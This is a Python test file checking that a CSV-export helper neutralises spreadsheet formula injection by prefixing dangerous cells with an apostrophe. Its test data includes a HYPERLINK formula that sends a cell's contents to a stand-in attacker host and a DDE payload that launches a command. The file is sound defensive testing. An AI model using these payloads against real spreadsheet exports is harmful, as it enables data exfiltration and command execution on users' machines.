"""CSV cells a spreadsheet would run as formulas are kept as text (OWASP CSV injection)."""

from __future__ import annotations

import csv
import io

import pytest

from api.spreadsheet_csv import csv_writer, spreadsheet_cell


@pytest.mark.parametrize(
    "value",
    [
        '=HYPERLINK("http://evil.example/?x="&A1,"open")',
        "+1+cmd|' /C calc'!A0",
        "-2+3",
        "-A1",
        "@SUM(A1:A2)",
        "\t=1",
        "\r=1",
        "\uff1d1+1",  # a full-width equals sign
        "-1e3",
        "-",
    ],
)
def test_a_formula_is_prefixed_and_otherwise_kept(value: str) -> None:
    assert spreadsheet_cell(value) == "'" + value


@pytest.mark.parametrize("value", ["-12", "-0.5", "+3", "12", "plain text", "a=b", "", "ects 5"])
def test_plain_numbers_and_text_stay_as_they_are(value: str) -> None:
    assert spreadsheet_cell(value) == value


def test_numbers_stay_numbers() -> None:
    assert spreadsheet_cell(-3) == -3 and spreadsheet_cell(-2.5) == -2.5
    assert spreadsheet_cell(None) == "" and spreadsheet_cell(True) == "True"


def test_the_writer_neutralises_every_cell_and_quotes_as_csv_does() -> None:
    out = io.StringIO()
    writer = csv_writer(out)
    writer.writerow(["=1+1", -4, "-4", 'a,"b"', "@x"])
    writer.writerows([["+x"]])
    rows = list(csv.reader(io.StringIO(out.getvalue())))
    assert rows == [["'=1+1", "-4", "-4", 'a,"b"', "'@x"], ["'+x"]]
